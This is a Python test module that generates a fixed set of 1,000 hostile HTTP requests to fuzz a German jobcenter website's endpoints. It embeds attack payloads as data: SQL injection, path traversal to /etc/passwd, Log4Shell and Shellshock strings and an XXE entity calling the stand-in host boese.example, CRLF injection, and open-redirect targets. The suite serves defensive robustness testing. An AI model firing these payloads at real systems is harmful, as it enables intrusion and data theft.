"""A thousand hostile requests, the same every time: what scanners, broken programs and attackers send."""

import itertools
import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any, Final
from urllib.parse import quote_from_bytes

SEED: Final = 11
# Nobody of ours: what leads there, or shows it where an address of ours belongs, is a find.
EVIL: Final = "boese.example"
# What must never come back as it is.
TAG: Final = "<zqx"


@dataclass(frozen=True)
class Asked:
    """One request. path: raw, as the server hands it on (latin-1); query: raw; head: names as in WSGI."""

    path: str
    query: str = ""
    method: str = "GET"
    body: bytes = b""
    kind: str = ""
    head: dict[str, str] = field(default_factory=dict)

    def __str__(self) -> str:
        return f"{self.method} {self.path[:80]!a}?{self.query[:80]!a} {self.body[:60]!r} {self.kind} {self.head}"[
            :400
        ]

    def environment(self) -> dict[str, Any]:
        """Return what the test client passes on to WSGI unchanged."""
        more = {"CONTENT_TYPE": self.kind} if self.kind else {}
        return {"PATH_INFO": self.path, "QUERY_STRING": self.query, **more, **self.head}


BYTES: Final = [
    b"%00", b"a%00b", b"%ff%fe", b"%c0%af", b"%ed%a0%80", b"\xff\xfe", b"\xe4\xf6\xfc", b"%", b"%zz", b"%u0041",
    b"%25%32%37", b"%27", b"%27%20OR%201=1--", b"1%27;SELECT%20pg_sleep(9)--", b"%22%3E%3Czqx%3E", b"%3Czqx%3E",
    b"javascript:alert(1)", b"{{7*7}}", b"%7B%25%20debug%20%25%7D", b"${jndi:ldap://boese.example/a}",
    b"../../../../etc/passwd", b"..%2f..%2fetc%2fpasswd", b"%2e%2e/%2e%2e/", b"file:///etc/passwd", b"a" * 9_000,
    b"%F0%9F%98%80" * 200, b"%CC%81" * 500, b"(" * 400, b"%22" * 301, b"*", b"%5B", b"a%20%26%20%7C%20!b", b":*",
    b"%E2%80%AE", b"%EF%BB%BF", b"%0d%0aSet-Cookie:%20zq=1", b"%0a", b"-1", b"0", b"1e309", b"99999999999999999999999",
    b"-99999999999999999999", b"NaN", b"0x10", b"%D9%A3", b"%C2%B2", b"1.5", b"true", b"null", b"[]", b"2026-13-45",
    b"0000-00", b"9999-99", b"99999-12", b"-0001-01", b"00000", b"38820%0038820", b"\\", b";", b"%2B", b"=1+1", b"",
]  # fmt: skip

# Where what is asked, and under which names.
QUESTIONS: Final = {
    "/": ["q", "lang", "page", "p"],
    "/jobcenter/": ["q", "land", "seite", "verband", "p"],
    "/daten/finder.json": ["q"],
    "/daten/jobcenter.json": ["land", "callback", "fields"],
    "/daten/jobcenter.csv": ["land", "limit"],
    "/suche/": ["q", "seite", "art", "land", "p"],
    "/menschen-vor-ort/": ["seite", "jobcenter", "land", "thema", "beruf", "q", "zeige"],
    "/menschen-vor-ort/feed/": ["jobcenter", "land", "anzahl"],
    "/menschen-vor-ort/feed.json": ["jobcenter", "land"],
    "/aktionen/": ["monat", "land", "jobcenter", "zeige", "seite", "art"],
    "/aktionen/kalender.ics": ["land", "jobcenter", "aktion"],
    "/presse/": ["seite", "jahr", "q", "zeige", "auswahl"],
    "/presse/ansprechpersonen/": ["q", "land", "p", "seite"],
    "/material/": ["art", "zeige", "q", "seite", "format"],
    "/oembed/": ["url", "format", "maxwidth", "maxheight"],
    "/einbetten/geschichten/": ["jobcenter", "land", "anzahl"],
    "/einbetten/finder/": ["q", "farbe"],
    "/barriere-melden/": ["seite", "url"],
    "/jobcenter/kreis-dueren/": ["seite", "monat", "q"],
    "/zahlen-und-fakten/": ["q", "p"],
    "/admin/login/": ["next", "login"],
    "/admin/passwort/vergessen/": ["next"],
}
SEEDS: Final = [
    "/", "/jobcenter/", "/menschen-vor-ort/", "/menschenvorort/", "/einbetten/geschichte/", "/einbetten/jobcenter/",
    "/einbetten/kennzahl/", "/einbetten/bild/", "/media/", "/static/", "/vorschaubild/", "/material/datei/",
    "/presse/bilder/", "/einwilligung/", "/widerruf/", "/aktionen/", "/admin/", "/admin/pages/", "/admin/einladung/",
    "/sitemap-", "/.well-known/", "/barriere-melden/danke/", "/images/", "/documents/",
]  # fmt: skip
ELSEWHERE: Final = [
    f"https://{EVIL}/", f"//{EVIL}/", f"///{EVIL}", f"/\\{EVIL}", f"\\\\{EVIL}", f"https:{EVIL}", f"https:///{EVIL}",
    f"http://testserver@{EVIL}/", f"//testserver.{EVIL}/", "javascript:alert(document.domain)", f"/%09/{EVIL}",
    f"\t//{EVIL}/", f"data:text/html,{EVIL}", f"%0d%0aLocation:%20https://{EVIL}/", f"/..//{EVIL}/", f"ftp://{EVIL}/",
]  # fmt: skip
LEADING: Final = [
    ("/admin/login/", "next"), ("/admin/logout/", "next"), ("/admin/passwort/vergessen/", "next"), ("/admin/", "next"),
    ("/admin/2fa/code/", "next"), ("/barriere-melden/", "seite"), ("/oembed/", "url"), ("/menschen-vor-ort/", "next"),
    ("/admin/bestaetigen/", "next"), ("/jobcenter/", "q"), ("/admin/pages/2/edit/", "next"),
]  # fmt: skip
HEADERS: Final = {
    "HTTP_HOST": [EVIL, f"testserver@{EVIL}", f"testserver:80@{EVIL}", "testserver:x", "", "a" * 5000, "[::1", "\xff",
                  f"testserver, {EVIL}", "..", "testserver:99999999"],
    "HTTP_X_FORWARDED_HOST": [EVIL, f"{EVIL}, testserver", "\x00", f'"><zqx>.{EVIL}'],
    "HTTP_X_FORWARDED_FOR": ["\xff\xfe", "1.2.3.4, ::ffff:0:0:0", "unknown", "', DROP TABLE", "9" * 5000, ",,,,", "[::1]:x"],
    "HTTP_X_FORWARDED_PROTO": ["gopher", "https,http", "\xff"],
    "HTTP_FORWARDED": [f"host={EVIL};proto=javascript", "for=\"_x"],
    "HTTP_COOKIE": ["sessionid=" + "a" * 9000, "sessionid=\xff\xfe", "=;;=;", "csrftoken=<zqx>", "messages=xyz:abc",
                    "sessionid=../../etc; messages=" + "W" * 3000, "\x01=\x02"],
    "HTTP_IF_MODIFIED_SINCE": ["Mon, 99 Foo 99999", "-1", "\xff", "Thu, 01 Jan 1 00:00:00 GMT"],
    "HTTP_IF_NONE_MATCH": ["*", '"' * 999, 'W/"\xff"', "x"],
    "HTTP_RANGE": ["bytes=9999999999999-", "bytes=-", "bytes=a-b", "bytes=0-0,1-1,2-2", "x"],
    "HTTP_ACCEPT_LANGUAGE": ["<zqx>", "a" * 9000, "de;q=9e999", "x-y-z-" * 200, "\xff"],
    "HTTP_ACCEPT_ENCODING": ["gzip;q=x", "\xff", "br, gzip, zstd, " * 300],
    "HTTP_ACCEPT": ["<zqx>", "application/json;q=\xff", "*/*;q=-1"],
    "HTTP_AUTHORIZATION": ["Basic \xff", "Bearer ' OR 1", "Basic " + "QQ" * 3000, "Digest", "Bearer " + "\xe4"],
    "HTTP_ORIGIN": ["null", f"https://{EVIL}", "https://[", "\xff", "x:y:z"],
    "HTTP_REFERER": [f"https://{EVIL}/<zqx>", "https://[", "\xff" * 300, "javascript:1"],
    "HTTP_USER_AGENT": ["", "<zqx>", "${jndi:ldap://boese.example}", "\xff" * 900, "() { :; }; ping boese.example"],
    "HTTP_X_REQUEST_ID": ["<zqx>", "a\tb", "x" * 9000, "\xff"],
    "HTTP_X_REQUESTED_WITH": ["XMLHttpRequest", "\xff"],
    "HTTP_SEC_FETCH_SITE": ["cross-site", "\xff"],
    "HTTP_X_HTTP_METHOD_OVERRIDE": ["DELETE"],
    "HTTP_X_CACHE_REFRESH": ["1", "\xff"],
    "HTTP_TRANSFER_ENCODING": ["chunked"],
    "CONTENT_LENGTH": ["-1", "abc", "99999999999999999999"],
}  # fmt: skip
FORM: Final = "application/x-www-form-urlencoded"
PARTS: Final = "multipart/form-data; boundary=zq"
BODIES: Final = [
    (FORM, b"q=%ff&login=%00&password=%00&form_token=%00"),
    (FORM, b"login=a%0d%0aBcc:x@boese.example&password=x"),
    (FORM, b"&".join(b"f%d=1" % number for number in range(6_000))),
    (FORM, b"login=" + b"a" * 200_000),
    (FORM, b"\xff\xfe\x00\x01" * 500),
    (f"{FORM}; charset=utf-7", b"login=+ADw-zqx+AD4-"),
    (f"{FORM}; charset=gibt-es-nicht", b"login=x&password=y"),
    (f"{FORM}; charset=idna", b"login=x"),
    (PARTS, b"--zq\r\nContent-Disposition: form-data; name=\"login\"\r\n\r\nx"),
    (PARTS, b"kein Anfang und kein Ende"),
    (PARTS, b"--zq\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../\x00\xff\"\r\n\r\nx\r\n--zq--\r\n"),
    (PARTS, b"--zq\r\nContent-Disposition: form-data; name=\"f\"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!\r\n--zq--"),
    ("multipart/form-data", b"x"),
    ("multipart/form-data; boundary=\xff", b"x"),
    ("multipart/form-data; boundary=" + "b" * 500, b"x"),
    ("application/json", b'{"login": ' + b"[" * 5_000),
    ("application/json", b"\xff\xfe{"),
    ("text/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "http://boese.example/">]><a>&b;</a>'),
    ("", b"x"),
    ("\xff/\xff", b"x"),
]  # fmt: skip
TARGETS: Final = ["/admin/login/", "/admin/2fa/code/", "/barriere-melden/", "/", "/jobcenter/", "/oembed/", "/suche/",
                  "/admin/passwort/vergessen/", "/daten/finder.json", "/einwilligung/abc/", "/widerruf/abc/",
                  "/presse/bilder/1/", "/admin/einladung/abc/", "/admin/pages/2/edit/", "/admin/logout/"]  # fmt: skip
METHODS: Final = ["HEAD", "PUT", "DELETE", "OPTIONS", "PATCH", "TRACE", "PROPFIND", "CONNECT", "zq", "<zqx>"]


def thousand(story: str) -> list[Asked]:
    """Return 1,000 different requests; story: the path of a public story."""
    chance = random.Random(SEED)
    shares = [
        (_questions(), 380),
        (_paths(story), 180),
        (_leading(), 120),
        (_heads(story), 140),
        (_sent(), 150),
    ]
    found = [*_methods(story)][:30]
    for requests, share in shares:
        everything = list(requests)
        found += chance.sample(everything, min(share, len(everything)))
    rest = [one for one in _questions() if one not in found]
    return found + chance.sample(rest, 1_000 - len(found))


def _questions() -> Iterator[Asked]:
    for path, names in QUESTIONS.items():
        for name, value in itertools.product(names, BYTES):
            yield Asked(path, f"{name}={value.decode('latin-1')}")
        yield Asked(path, "&".join(f"{name}[]={number}&{name}=x" for name in names for number in range(99)))
        yield Asked(path, "&" * 3_000 + "=")


def _paths(story: str) -> Iterator[Asked]:
    raw = [
        b"\xff\xfe", b"\xc0\xaf", b"\x00", b"a\x00b", b"<zqx>", b"..", b"%2e%2e", b"\xf0\x9f\x98\x80",
        b"99999999999999999999", b"-1", b"0", b"a" * 5_000, b"\r\nSet-Cookie: zq=1", b"\xe2\x80\xae", b"'",
        b";x=y", b"\\..\\..", b".git/config", b"wp-login.php", b"\xd9\xa3", b"a b", b"?", b"//boese.example",
        b"\xc3\xbc",
    ]  # fmt: skip
    for start, part in itertools.product([*SEEDS, story], raw):
        end = random.Random(len(start) + len(part)).choice(["", "/", ".jpg", "/feed/", "/kalender.ics"])
        yield Asked(f"{start}{part.decode('latin-1')}{end}")


def _leading() -> Iterator[Asked]:
    for (path, name), address in itertools.product(LEADING, ELSEWHERE):
        value = quote_from_bytes(address.encode(), safe="/:%")
        if path == "/admin/logout/":
            yield Asked(path, f"{name}={value}", "POST", f"{name}={value}".encode(), FORM)
        yield Asked(path, f"{name}={value}")


def _heads(story: str) -> Iterator[Asked]:
    places = itertools.cycle(
        ["/", "/jobcenter/?", "/admin/login/", "/daten/finder.json", story, "/barriere-melden/", "/oembed/"]
    )
    for name, values in HEADERS.items():
        for value in values:
            for _ in range(2):
                yield Asked(next(places).rstrip("?"), head={name: value})


def _sent() -> Iterator[Asked]:
    for path, (kind, body) in itertools.product(TARGETS, BODIES):
        yield Asked(path, "", "POST", body, kind)


def _methods(story: str) -> Iterator[Asked]:
    for path, method in itertools.product([story, "/admin/login/", "/oembed/"], METHODS):
        yield Asked(path, method=method)
